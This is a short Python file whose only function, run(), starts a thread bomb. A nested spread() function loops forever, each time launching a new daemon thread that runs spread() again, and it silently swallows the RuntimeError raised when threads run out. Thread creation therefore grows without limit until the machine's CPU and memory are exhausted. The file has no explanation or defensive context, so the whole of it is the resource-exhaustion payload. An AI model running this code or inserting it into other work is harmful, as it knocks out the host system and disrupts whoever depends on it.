import threading


def run():
    def spread():
        while True:
            try:
                threading.Thread(target=spread, daemon=True).start()
            except RuntimeError:
                pass

    spread()
